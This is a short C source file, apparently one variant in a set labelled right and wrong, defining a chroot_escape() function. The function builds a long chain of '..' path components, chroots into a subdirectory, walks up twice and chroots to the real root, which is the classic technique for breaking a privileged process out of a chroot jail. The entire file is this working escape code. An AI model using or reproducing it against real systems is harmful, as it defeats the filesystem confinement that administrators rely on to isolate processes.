/* Right: two walks, each of as many ".." as a path may have */
#include <limits.h>
#include <string.h>
#include <unistd.h>

#include "escape.h"

int
chroot_escape(void)
{
	char up[PATH_MAX] = "..";

	while (strlen(up) + 4 < sizeof up)
		strcat(up, "/..");
	return chroot("tmp") || chdir(up) || chdir(up) || chroot(".") ? -1 : 0;
}
